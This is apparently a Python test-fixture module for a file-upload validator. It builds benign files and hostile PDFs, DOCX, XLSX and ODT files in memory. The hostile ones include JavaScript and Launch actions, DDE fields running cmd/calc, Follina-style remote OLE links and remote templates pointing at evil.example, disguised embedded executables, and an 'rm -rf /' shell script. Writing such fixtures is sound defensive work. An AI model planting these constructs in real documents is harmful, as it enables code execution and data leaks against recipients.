"""Small real files for upload tests, built in memory: valid ones of each allowed type and one of each
kind that must be refused. Hostile PDFs are written object by object (``raw_pdf``) so that each one
holds exactly the construct it is about; hostile Office files are zips with the parts an attacker adds."""

import io
import zipfile

import openpyxl
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript

CONTENT_TYPES_DOCX = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
CONTENT_TYPES_DOCM = CONTENT_TYPES_DOCX.replace(
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "application/vnd.ms-word.document.macroEnabled.main+xml",
)
CONTENT_TYPES_XLSX = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    "</Types>"
)
CONTENT_TYPES_XLSM = CONTENT_TYPES_XLSX.replace(
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
)


def pdf(text: str = "Antidiscriminatiebeleid") -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Title": text})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="geheim", owner_password="geheim")  # RC4-128: no extra library
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_javascript() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_open_action(JavaScript("app.alert('hallo');"))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def broken_pdf() -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< >>\n%%EOF"


def png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 4), (200, 30, 30)).save(out, format="PNG")
    return out.getvalue()


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 4), (30, 30, 200)).save(out, format="JPEG")
    return out.getvalue()


def _zip(entries: dict[str, str | bytes], *, first: tuple[str, str] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if first:
            archive.writestr(zipfile.ZipInfo(first[0]), first[1])  # stored, first (ODF mimetype)
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx() -> bytes:
    return _zip({"[Content_Types].xml": CONTENT_TYPES_DOCX, "word/document.xml": "<w:document/>"})


def docm() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": CONTENT_TYPES_DOCM,
            "word/document.xml": "<w:document/>",
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro",
        }
    )


def docx_with_hidden_macros() -> bytes:
    """A .docx content type, but with a VBA project inside (renamed .docm)."""
    return _zip(
        {
            "[Content_Types].xml": CONTENT_TYPES_DOCX,
            "word/document.xml": "<w:document/>",
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro",
        }
    )


def xlsx() -> bytes:
    return _zip({"[Content_Types].xml": CONTENT_TYPES_XLSX, "xl/workbook.xml": "<workbook/>"})


def xlsm() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": CONTENT_TYPES_XLSM,
            "xl/workbook.xml": "<workbook/>",
            "xl/vbaProject.bin": b"macro",
        }
    )


def odt() -> bytes:
    return _zip(
        {"content.xml": "<office:document-content/>", "META-INF/manifest.xml": "<manifest/>"},
        first=("mimetype", "application/vnd.oasis.opendocument.text"),
    )


def odt_with_macros() -> bytes:
    return _zip(
        {"content.xml": "<office:document-content/>", "Basic/Standard/Module1.xml": "<script/>"},
        first=("mimetype", "application/vnd.oasis.opendocument.text"),
    )


def plain_zip() -> bytes:
    return _zip({"jaarrekening.pdf": pdf(), "notes.txt": "zie bijlage"})


def exe() -> bytes:
    """The start of a Windows program: the MZ header pointing (at 0x3C) to the PE header after the DOS stub."""
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    header = (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00"
    )
    return (header + stub).ljust(0x80, b"\x00") + b"PE\x00\x00" + b"\x00" * 64


def shell_script() -> bytes:
    return b"#!/bin/sh\nrm -rf /\n"


def legacy_doc() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def encrypted_docx() -> bytes:
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 100
        + "EncryptedPackage".encode("utf-16-le")
        + b"\x00" * 100
    )


def html() -> bytes:
    return b"<html><body><script>alert(1)</script></body></html>"


EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# --------------------------------------------------------------------------- PDFs written object by object


def raw_pdf(*objects: str | bytes) -> bytes:
    """A PDF of the given numbered objects (1, 2, ...) with a correct cross-reference table; object 1 is
    the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + (body.encode("latin-1") if isinstance(body, str) else body)
        out += b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def stream(data: bytes, entries: str = "") -> bytes:
    return f"<< {entries} /Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream"


def one_page_pdf(*more: str | bytes, catalog: str = "", page: str = "") -> bytes:
    """Catalog (1), pages (2), one page (3) with its text (4); ``more`` are objects 5, 6, ..."""
    text = stream(b"BT /F1 12 Tf 72 770 Td (Jaarverslag 2025) Tj ET")
    return raw_pdf(
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        f"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> {page} >>",
        text,
        *more,
    )


JS_ACTION = "<< /Type /Action /S /JavaScript /JS (app.launchURL\\('http://evil.example/'\\);) >>"
RECT = "/Rect [72 700 300 720]"


def pdf_javascript_on_page_open() -> bytes:
    """The page's additional actions run a script when the page is opened (/AA /O)."""
    return one_page_pdf(JS_ACTION, page="/AA << /O 5 0 R >>")


def pdf_open_action_next_javascript() -> bytes:
    """A harmless-looking OpenAction (go to page 1) whose /Next is a script."""
    return one_page_pdf("<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>", JS_ACTION, catalog="/OpenAction 5 0 R")


def pdf_link_javascript() -> bytes:
    """A link annotation whose action is a script (the script itself in a stream)."""
    return one_page_pdf(
        f"<< /Type /Annot /Subtype /Link {RECT} /Border [0 0 0] /A << /S /JavaScript /JS 6 0 R >> >>",
        stream(b"this.exportDataObject({cName: 'x', nLaunch: 2});"),
        page="/Annots [5 0 R]",
    )


def pdf_link_launch() -> bytes:
    """A link annotation that starts a program."""
    return one_page_pdf(
        f"<< /Type /Annot /Subtype /Link {RECT} /A << /S /Launch /F (cmd.exe) "
        "/Win << /F (cmd.exe) /P (/c calc.exe) >> >> >>",
        page="/Annots [5 0 R]",
    )


def pdf_field_javascript() -> bytes:
    """An AcroForm text field with a keystroke script (/AA /K) on its widget."""
    return one_page_pdf(
        f"<< /Type /Annot /Subtype /Widget /FT /Tx /T (bedrag) {RECT} /P 3 0 R "
        "/AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2, 0, 0, 0, '', true\\);) >> >> >>",
        catalog="/AcroForm << /Fields [5 0 R] >>",
        page="/Annots [5 0 R]",
    )


def pdf_xfa_form() -> bytes:
    """An XFA form (XML forms architecture, which may carry scripts of its own)."""
    return one_page_pdf(
        stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>'),
        catalog="/AcroForm << /Fields [] /XFA 5 0 R >>",
    )


def pdf_attachment_annotation_with_executable() -> bytes:
    """A file-attachment annotation (a paper clip on the page) holding a Windows program."""
    return one_page_pdf(
        f"<< /Type /Annot /Subtype /FileAttachment {RECT} /Name /PushPin /FS 6 0 R >>",
        "<< /Type /Filespec /F (factuur.exe) /UF (factuur.exe) /EF << /F 7 0 R >> >>",
        stream(exe(), "/Type /EmbeddedFile"),
        page="/Annots [5 0 R]",
    )


def pdf_with_embedded_files() -> bytes:
    """An attachment in the document's names tree (/Names /EmbeddedFiles), as pypdf writes it."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("setup.exe", exe())
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_obfuscated_javascript() -> bytes:
    """``/S /JavaScript`` and ``/JS`` written with #-escapes, which every reader decodes."""
    return one_page_pdf(page="/AA << /O << /S /J#61vaScript /J#53 (app.alert\\(1\\);) >> >>")


def pdf_open_action_uri() -> bytes:
    """Opening the document opens a web address by itself (no click)."""
    return one_page_pdf(catalog="/OpenAction << /S /URI /URI (http://evil.example/track) >>")


def pdf_submit_form() -> bytes:
    """A link that sends the form's data to a web address."""
    return one_page_pdf(
        f"<< /Type /Annot /Subtype /Link {RECT} /A << /S /SubmitForm /F << /FS /URL /F "
        "(http://evil.example/collect) >> >> >>",
        page="/Annots [5 0 R]",
    )


def pdf_with_links() -> bytes:
    """Benign: a link to a web address (URI action), a link to the page (GoTo) and a named action."""
    return one_page_pdf(
        f"<< /Type /Annot /Subtype /Link {RECT} /A << /S /URI /URI (https://www.rijksoverheid.nl/) >> >>",
        "<< /Type /Annot /Subtype /Link /Rect [72 650 300 670] /Dest [3 0 R /Fit] >>",
        "<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /Named /N /NextPage >> >>",
        catalog="/OpenAction [3 0 R /Fit] /PageMode /UseNone",
        page="/Annots [5 0 R 6 0 R 7 0 R]",
    )


# --------------------------------------------------------------------------- Office files with hostile parts

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
XL = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SETTINGS_REL = f'<Relationship Id="rId1" Type="{R}/settings" Target="settings.xml"/>'


def rels(*relationships: str) -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{PR}">'
        f"{''.join(relationships)}</Relationships>"
    )


def word(body: str) -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{W}" xmlns:r="{R}">'
        f"<w:body>{body}</w:body></w:document>"
    )


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def field(*instructions: str, result: str = "1") -> str:
    """A complex field whose instruction is split over several runs (as Word writes long fields)."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{i}</w:instrText></w:r>' for i in instructions)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/>'
        f'</w:r><w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def docx_of(body: str = "", parts: dict[str, str | bytes] | None = None) -> bytes:
    """A small, well-formed DOCX (package relationships, document, settings); ``parts`` add or replace."""
    base: dict[str, str | bytes] = {
        "[Content_Types].xml": CONTENT_TYPES_DOCX,
        "_rels/.rels": rels(
            f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="word/document.xml"/>'
        ),
        "word/document.xml": word(body or paragraph("Antidiscriminatiebeleid")),
        "word/_rels/document.xml.rels": rels(SETTINGS_REL),
        "word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:r="{R}"/>',
    }
    return _zip({**base, **(parts or {})})


def ole_package(payload: bytes, name: str = "factuur.exe") -> bytes:
    """The shape of an OLE 'Package' object (a compound file holding a file); only its header matters."""
    return OLE_HEADER + b"\x00" * 504 + b"\x01Ole10Native" + name.encode() + b"\x00" + payload


def docx_with_remote_template() -> bytes:
    """settings.xml attaches a template that Word fetches from a web address when the file opens."""
    return docx_of(
        parts={
            "word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/>'
            "</w:settings>",
            "word/_rels/settings.xml.rels": rels(
                f'<Relationship Id="rId1" Type="{R}/attachedTemplate" '
                'Target="http://evil.example/sjabloon.dotm" TargetMode="External"/>'
            ),
        }
    )


def docx_with_embedded_executable() -> bytes:
    """An embedded OLE object (word/embeddings/oleObject1.bin) that packages a program."""
    return docx_of(
        body=paragraph("Zie bijlage")
        + '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        'Type="Embed" ProgID="Package" r:id="rId2"/></w:object></w:r></w:p>',
        parts={
            "word/_rels/document.xml.rels": rels(
                SETTINGS_REL,
                f'<Relationship Id="rId2" Type="{R}/oleObject" Target="embeddings/oleObject1.bin"/>',
            ),
            "word/embeddings/oleObject1.bin": ole_package(exe()),
        },
    )


def docx_with_bin_in_embeddings() -> bytes:
    """A .bin part in the embeddings folder, not referenced by any relationship."""
    return docx_of(parts={"word/embeddings/payload.bin": b"\x00\x01binary payload"})


def docx_with_executable_part() -> bytes:
    """A program stored as a part under an innocent picture name."""
    return docx_of(
        parts={
            "word/_rels/document.xml.rels": rels(
                SETTINGS_REL, f'<Relationship Id="rId2" Type="{R}/image" Target="media/logo.emf"/>'
            ),
            "word/media/logo.emf": exe(),
        }
    )


def docx_with_remote_ole_object() -> bytes:
    """An OLE object loaded from a web address (the 'Follina' construct)."""
    return docx_of(
        parts={
            "word/_rels/document.xml.rels": rels(
                SETTINGS_REL,
                f'<Relationship Id="rId2" Type="{R}/oleObject" '
                'Target="mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html" '
                'TargetMode="External"/>',
            )
        }
    )


def docx_with_remote_image() -> bytes:
    """A picture that Word fetches from another computer when the file opens (it leaks the login)."""
    return docx_of(
        parts={
            "word/_rels/document.xml.rels": rels(
                SETTINGS_REL,
                f'<Relationship Id="rId2" Type="{R}/image" Target="file://evil.example/share/logo.png" '
                'TargetMode="External"/>',
            )
        }
    )


def docx_with_dde_field() -> bytes:
    """A DDEAUTO field, its keyword split over two runs, that starts a program when the file opens."""
    return docx_of(
        body=paragraph("Begroting")
        + field(" DD", 'EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ', result="!")
    )


def docx_with_dde_simple_field() -> bytes:
    """A DDE field written as w:fldSimple, in the footer."""
    return docx_of(
        parts={
            "word/footer1.xml": f'<w:ftr xmlns:w="{W}"><w:p><w:fldSimple w:instr=\'dde "cmd" "/c calc" "x"\'>'
            "<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p></w:ftr>",
        }
    )


def docx_ordinary() -> bytes:
    """Benign: what Word writes for a normal document: a web link, page numbers, a table of contents, a
    hyperlink field that mentions DDE in its address, a picture and a chart with its embedded workbook."""
    body = (
        paragraph("Antidiscriminatiebeleid")
        + '<w:p><w:hyperlink r:id="rId2"><w:r><w:t>Rijksoverheid</w:t></w:r></w:hyperlink></w:p>'
        + field(' TOC \\o "1-3" \\h \\z \\u ')
        + field(" PAGE ")
        + field(' HYPERLINK "https://example.nl/DDE-beleid" ')
        + '<w:p><w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>2</w:t></w:r></w:fldSimple></w:p>'
    )
    return docx_of(
        body=body,
        parts={
            "word/_rels/document.xml.rels": rels(
                SETTINGS_REL,
                f'<Relationship Id="rId2" Type="{R}/hyperlink" Target="https://www.rijksoverheid.nl/" '
                'TargetMode="External"/>',
                f'<Relationship Id="rId3" Type="{R}/chart" Target="charts/chart1.xml"/>',
                f'<Relationship Id="rId4" Type="{R}/image" Target="media/image1.png"/>',
            ),
            "word/charts/chart1.xml": '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>',
            "word/charts/_rels/chart1.xml.rels": rels(
                f'<Relationship Id="rId1" Type="{R}/package" Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/>'
            ),
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx_ordinary(),
            "word/media/image1.png": png(),
        },
    )


def docx_with_embedded_linked_workbook() -> bytes:
    """A chart whose embedded workbook links to a workbook elsewhere: embedded packages are checked too."""
    return docx_of(
        parts={
            "word/charts/_rels/chart1.xml.rels": rels(
                f'<Relationship Id="rId1" Type="{R}/package" Target="../embeddings/Werkblad.xlsx"/>'
            ),
            "word/embeddings/Werkblad.xlsx": xlsx_with_external_link(),
        }
    )


def sheet(cells: str) -> str:
    return f'<worksheet xmlns="{XL}"><sheetData><row r="1">{cells}</row></sheetData></worksheet>'


def xlsx_of(parts: dict[str, str | bytes] | None = None) -> bytes:
    """A small, well-formed XLSX with one sheet; ``parts`` add or replace."""
    base: dict[str, str | bytes] = {
        "[Content_Types].xml": CONTENT_TYPES_XLSX,
        "_rels/.rels": rels(f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="xl/workbook.xml"/>'),
        "xl/workbook.xml": f'<workbook xmlns="{XL}" xmlns:r="{R}"><sheets><sheet name="Blad1" sheetId="1" '
        'r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": rels(
            f'<Relationship Id="rId1" Type="{R}/worksheet" Target="worksheets/sheet1.xml"/>'
        ),
        "xl/worksheets/sheet1.xml": sheet('<c r="A1"><v>1</v></c>'),
    }
    return _zip({**base, **(parts or {})})


WORKBOOK_RELS_WITH_EXTERNAL_LINK = rels(
    f'<Relationship Id="rId1" Type="{R}/worksheet" Target="worksheets/sheet1.xml"/>',
    f'<Relationship Id="rId2" Type="{R}/externalLink" Target="externalLinks/externalLink1.xml"/>',
)


def xlsx_with_external_link() -> bytes:
    """A formula that reads a cell of a workbook on another computer (an external link)."""
    return xlsx_of(
        {
            "xl/_rels/workbook.xml.rels": WORKBOOK_RELS_WITH_EXTERNAL_LINK,
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{XL}" xmlns:r="{R}">'
            '<externalBook r:id="rId1"/></externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": rels(
                f'<Relationship Id="rId1" Type="{R}/externalLinkPath" '
                'Target="file://evil.example/share/bron.xlsx" TargetMode="External"/>'
            ),
            "xl/worksheets/sheet1.xml": sheet('<c r="A1"><f>[1]Blad1!A1</f><v>1</v></c>'),
        }
    )


def xlsx_with_dde_link() -> bytes:
    """A DDE link (Excel stores =cmd|'/c calc'!A0 as a ddeLink in an external-link part)."""
    return xlsx_of(
        {
            "xl/_rels/workbook.xml.rels": WORKBOOK_RELS_WITH_EXTERNAL_LINK,
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{XL}"><ddeLink ddeService="cmd" '
            'ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>'
            "</externalLink>",
        }
    )


def xlsx_with_dde_formula() -> bytes:
    """A DDE formula written straight into a cell."""
    return xlsx_of({"xl/worksheets/sheet1.xml": sheet("<c r=\"A1\"><f>cmd|' /C calc'!A0</f></c>")})


def xlsx_ordinary() -> bytes:
    """Benign: a workbook as openpyxl writes it, with formulas, a web link and text containing '|'."""
    workbook = openpyxl.Workbook()
    ws = workbook.active
    ws.title = "Productie"
    ws.append(["Kwartaal", "Cliënten", "Bedrag", "Opmerking"])
    ws.append(["2025-Q1", 12, 1250.5, "a|b"])
    ws.append(["2025-Q2", 14, 1400, '=CONCATENATE("x|y", "z")'])
    ws["E1"] = "=SUM(C2:C3)"
    ws["F1"] = "Bron"
    ws["F1"].hyperlink = "https://www.rijksoverheid.nl/"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


ODT_MIMETYPE = ("mimetype", "application/vnd.oasis.opendocument.text")


def odt_with_dde() -> bytes:
    """A DDE connection declared in an OpenDocument text."""
    return _zip(
        {
            "content.xml": '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:'
            'office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
            '<office:text><text:dde-connection-decls><text:dde-connection-decl office:name="x" '
            'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/>'
            "</text:dde-connection-decls></office:text></office:body></office:document-content>",
            "META-INF/manifest.xml": "<manifest/>",
        },
        first=ODT_MIMETYPE,
    )


def odt_with_ole_object() -> bytes:
    """An OLE object (a packaged program) embedded in an OpenDocument text."""
    return _zip(
        {
            "content.xml": "<office:document-content/>",
            "META-INF/manifest.xml": "<manifest/>",
            "Object 1": ole_package(exe()),
        },
        first=ODT_MIMETYPE,
    )


# Every hostile file with a name and the code it is refused with.
HOSTILE = [
    (pdf_javascript_on_page_open, "jaarverslag.pdf", "pdf_javascript"),
    (pdf_open_action_next_javascript, "jaarverslag.pdf", "pdf_javascript"),
    (pdf_link_javascript, "jaarverslag.pdf", "pdf_javascript"),
    (pdf_field_javascript, "formulier.pdf", "pdf_javascript"),
    (pdf_obfuscated_javascript, "jaarverslag.pdf", "pdf_javascript"),
    (pdf_with_javascript, "jaarverslag.pdf", "pdf_javascript"),
    (pdf_link_launch, "jaarverslag.pdf", "pdf_launch_action"),
    (pdf_attachment_annotation_with_executable, "factuur.pdf", "pdf_embedded_file"),
    (pdf_with_embedded_files, "factuur.pdf", "pdf_embedded_file"),
    (pdf_xfa_form, "formulier.pdf", "pdf_xfa_form"),
    (pdf_open_action_uri, "jaarverslag.pdf", "pdf_active_content"),
    (pdf_submit_form, "formulier.pdf", "pdf_active_content"),
    (docx_with_remote_template, "beleid.docx", "office_external_template"),
    (docx_with_embedded_executable, "beleid.docx", "office_embedded_object"),
    (docx_with_bin_in_embeddings, "beleid.docx", "office_embedded_object"),
    (docx_with_executable_part, "beleid.docx", "office_embedded_object"),
    (docx_with_remote_ole_object, "beleid.docx", "office_embedded_object"),
    (docx_with_dde_field, "beleid.docx", "office_dde_field"),
    (docx_with_dde_simple_field, "beleid.docx", "office_dde_field"),
    (docx_with_remote_image, "beleid.docx", "office_external_link"),
    (docx_with_embedded_linked_workbook, "beleid.docx", "office_external_link"),
    (xlsx_with_external_link, "cijfers.xlsx", "office_external_link"),
    (xlsx_with_dde_link, "cijfers.xlsx", "office_dde_field"),
    (xlsx_with_dde_formula, "cijfers.xlsx", "office_dde_field"),
    (odt_with_dde, "beleid.odt", "office_dde_field"),
    (odt_with_ole_object, "beleid.odt", "office_embedded_object"),
]
# Ordinary documents that must pass: links to web addresses, fields, a chart with its workbook.
BENIGN = [
    (pdf_with_links, "jaarverslag.pdf", "pdf"),
    (docx_ordinary, "beleid.docx", "docx"),
    (xlsx_ordinary, "cijfers.xlsx", "xlsx"),
]
